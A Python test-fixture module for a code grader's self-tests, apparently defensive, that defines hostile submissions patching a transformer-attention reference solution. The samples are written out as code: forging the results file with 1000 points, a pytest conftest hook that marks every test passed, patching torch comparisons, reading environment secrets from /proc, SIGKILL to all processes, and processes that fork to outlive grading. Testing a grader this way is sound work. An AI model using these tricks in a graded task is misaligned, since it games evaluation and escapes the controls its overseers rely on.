"""Hostile submissions: the reference with one piece of code that attacks the grader.

Each case names the file it edits, the snippet it replaces, what it writes
instead, and which components may lose points for it (the rest must keep full
marks, and the report must always be written).
"""
from __future__ import annotations

import shutil
from dataclasses import dataclass
from pathlib import Path

from selftests.bugs import SOLUTIONS

# Where the attacks write what they managed (set by the test); __MARK__ and __PORT__ are filled in too.
EVIDENCE_DIR = "__EVIDENCE_DIR__"


@dataclass(frozen=True)
class Attack:
    name: str
    file: str
    old: str
    new: str
    may_lose: frozenset[str]  # components allowed to lose points
    description: str

    def materialize(self, dest: Path, evidence: Path, mark: str = "", port: int = 9) -> Path:
        """The reference with this attack; `mark` (digits) names what it leaves behind, `port` a server it calls."""
        shutil.copytree(SOLUTIONS, dest, ignore=shutil.ignore_patterns("__pycache__"))
        path = dest / self.file
        source = path.read_text()
        assert source.count(self.old) == 1, f"{self.name}: snippet must occur once in {self.file}"
        new = self.new.replace(EVIDENCE_DIR, str(evidence)).replace("__MARK__", mark).replace("__PORT__", str(port))
        path.write_text(source.replace(self.old, new))
        return dest


SPLIT = '    return rearrange(x, "b t (h d) -> b h t d", h=n_heads)\n'
SCORES = "    return q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))\n"
FUTURE = "from __future__ import annotations\n"
POSITIONAL_HEAD = '"""Sinusoidal positional encoding (reference solution)."""\n' + FUTURE
ENCODING_DOC = '    """float32 (max_len, d_model): PE[p, 2i] = sin(p / 10000^(2i/d)), PE[p, 2i+1] = cos(...)."""\n'
ATTENTION_HEAD = '"""Scaled dot-product and multi-head attention (reference solution)."""\n' + FUTURE

ATTACKS = [
    Attack("hang", "attention.py", SPLIT, "    while True:\n        pass\n",
           frozenset({"head_splitting"}), "split_heads never returns"),
    Attack("segfault", "attention.py", SCORES, "    import ctypes\n    ctypes.string_at(0)\n",
           frozenset({"scaling"}), "attention_scores crashes the interpreter"),
    Attack("os_exit_at_import", "positional.py", POSITIONAL_HEAD, POSITIONAL_HEAD + "import os\nos._exit(3)\n",
           frozenset({"sinusoidal_encoding"}), "positional.py ends the process while it is imported"),
    Attack("sys_exit", "attention.py", SCORES, "    import sys\n    sys.exit(0)\n",
           frozenset({"scaling"}), "attention_scores calls sys.exit"),
    Attack("memory_hog", "attention.py", SPLIT, "    hog = bytearray(64 * 1024**3)\n" + SPLIT,
           frozenset({"head_splitting"}), "split_heads asks for 64 GiB"),
    Attack("patched_comparisons", "attention.py", SPLIT,
           "    import torch as _t\n    _t.allclose = lambda *a, **k: True\n    _t.equal = lambda *a, **k: True\n"
           "    _t.Tensor.__eq__ = lambda *a, **k: True\n    import builtins\n    builtins.all = lambda *a: True\n"
           "    return _t.zeros(x.shape[0], n_heads, x.shape[1], x.shape[2] // n_heads, dtype=x.dtype)\n",
           frozenset({"head_splitting"}), "split_heads returns zeros after patching torch's comparisons and builtins"),
    Attack("lying_tensor_subclass", "attention.py", SPLIT,
           "    class Liar(torch.Tensor):\n"
           "        def __eq__(self, other):\n            return torch.ones_like(other, dtype=torch.bool)\n"
           "        def allclose(self, *a, **k):\n            return True\n"
           "    b, t, d = x.shape\n"
           "    return torch.zeros(b, n_heads, t, d // n_heads, dtype=x.dtype).as_subclass(Liar)\n",
           frozenset({"head_splitting"}), "split_heads returns a Tensor subclass that claims to equal anything"),
    Attack("forged_results", "attention.py", ATTENTION_HEAD, ATTENTION_HEAD +
           "import json, os, sys\n"
           "def _forge():\n"
           "    for pid in [os.getppid()] + [p for p in os.listdir('/proc') if p.isdigit()]:\n"
           "        try:\n"
           "            args = open(f'/proc/{pid}/cmdline').read().split('\\0')\n"
           "            if '--results' in args:\n"
           "                path = args[args.index('--results') + 1]\n"
           "                open(path, 'w').write(json.dumps({'score': 1000, 'tests': []}))\n"
           "                open(os.path.join('" + EVIDENCE_DIR + "', 'forged'), 'w').write(path)\n"
           "        except (OSError, ValueError, IndexError):\n"
           "            pass\n"
           "_forge()\n"
           "print('{\"score\": 1000}')\n",
           frozenset(), "attention.py writes a results file with 1000 points and prints a fake report"),
    Attack("flood_output", "attention.py", SPLIT,
           "    import sys\n    sys.stdout.write('x' * (50 * 1024 * 1024))\n    sys.stdout.flush()\n" + SPLIT,
           frozenset(), "split_heads prints 50 MB (and is otherwise correct)"),
    Attack("stray_process", "positional.py", POSITIONAL_HEAD, POSITIONAL_HEAD +
           "import os, subprocess\n"
           "subprocess.Popen(['sleep', '__MARK__1'], start_new_session=True)\n"
           "if os.fork() == 0:\n"
           "    os.setsid()\n"
           "    os.execv('/bin/sleep', ['sleep', '__MARK__2'])\n",
           frozenset(), "positional.py starts background processes that try to outlive grading"),
    Attack("pid_hopper", "positional.py", POSITIONAL_HEAD, POSITIONAL_HEAD +
           "import ctypes, os\n"
           "if os.fork() == 0:\n"
           "    os.setsid()\n"
           "    ctypes.CDLL(None).prctl(15, b'hop__MARK__', 0, 0, 0)\n"
           "    while True:\n"
           "        if os.fork():\n"
           "            os._exit(0)\n",
           frozenset(), "positional.py leaves a process that forks and exits over and over (a new pid each time)"),
    Attack("kill_everything", "attention.py", SCORES,
           "    import os, signal\n    os.kill(-1, signal.SIGKILL)\n" + SCORES,
           frozenset({"scaling"}), "attention_scores sends SIGKILL to every process it may signal"),
    Attack("environment", "positional.py", ENCODING_DOC, ENCODING_DOC +
           "    import os\n"
           "    text = repr(dict(os.environ))\n"
           "    for path in ('/proc/self/environ', '/proc/1/environ', f'/proc/{os.getppid()}/environ'):\n"
           "        try:\n"
           "            text += open(path, 'rb').read().decode('latin1')\n"
           "        except OSError:\n"
           "            pass\n"
           "    raise ValueError(text)\n",
           frozenset({"sinusoidal_encoding"}), "the encoding fails with the environment in its message"),
    Attack("fill_tmp", "positional.py", POSITIONAL_HEAD, POSITIONAL_HEAD +
           "import os\n"
           "for _folder in ('/tmp', '/dev/shm', os.path.expanduser('~')):\n"
           "    try:\n"
           "        with open(os.path.join(_folder, 'fill__MARK__'), 'wb') as _f:\n"
           "            for _ in range(256):\n"
           "                _f.write(b'x' * (1 << 20))\n"
           "    except OSError:\n"
           "        pass\n",
           frozenset(), "positional.py writes 256 MB to /tmp, /dev/shm and the home folder and leaves it there"),
    Attack("network", "positional.py", POSITIONAL_HEAD, POSITIONAL_HEAD +
           "import socket\n"
           "try:\n"
           "    socket.create_connection(('127.0.0.1', __PORT__), timeout=2).sendall(b'stolen')\n"
           "except OSError:\n"
           "    pass\n",
           frozenset(), "positional.py connects to a server on the grading machine"),
    Attack("write_everywhere", "positional.py", POSITIONAL_HEAD, POSITIONAL_HEAD +
           "import os\n"
           "for _root in ('" + str(SOLUTIONS.parent) + "', '/tmp'):\n"
           "    for _dir, _dirs, _files in os.walk(_root):\n"
           "        for _name in _files:\n"
           "            if _name.endswith(('.py', '.json', '.yml')):\n"
           "                try:\n"
           "                    open(os.path.join(_dir, _name), 'a').close()\n"
           "                    open(os.path.join('" + EVIDENCE_DIR + "', 'wrote'), 'a').write(os.path.join(_dir, _name))\n"
           "                except OSError:\n"
           "                    pass\n",
           frozenset(), "positional.py opens every check, course file and results file it can find for writing"),
]


def conftest_attack(dest: Path) -> Path:
    """A submission whose conftest.py and test file try to make every check pass."""
    shutil.copytree(SOLUTIONS, dest, ignore=shutil.ignore_patterns("__pycache__"))
    (dest / "positional.py").write_text('"""Nothing here: the conftest is meant to pass the checks."""\n')
    hook = ("import pytest\n"
            "@pytest.hookimpl(hookwrapper=True)\n"
            "def pytest_runtest_makereport(item, call):\n"
            "    outcome = yield\n"
            "    report = outcome.get_result()\n"
            "    report.outcome = 'passed'\n")
    (dest / "conftest.py").write_text(hook)
    (dest / "test_fake.py").write_text("def test_split_heads_layout():\n    pass\n")
    return dest


def unreadable_files_attack(dest: Path, secret: Path) -> Path:
    """The reference with kv_cache.py a symbolic link, positional.py a FIFO, and a link to a private file."""
    import os

    shutil.copytree(SOLUTIONS, dest, ignore=shutil.ignore_patterns("__pycache__"))
    (dest / "kv_cache.py").unlink()
    (dest / "kv_cache.py").symlink_to(SOLUTIONS / "kv_cache.py")
    (dest / "positional.py").unlink()
    os.mkfifo(dest / "positional.py")
    (dest / "notes.txt").symlink_to(secret)
    return dest
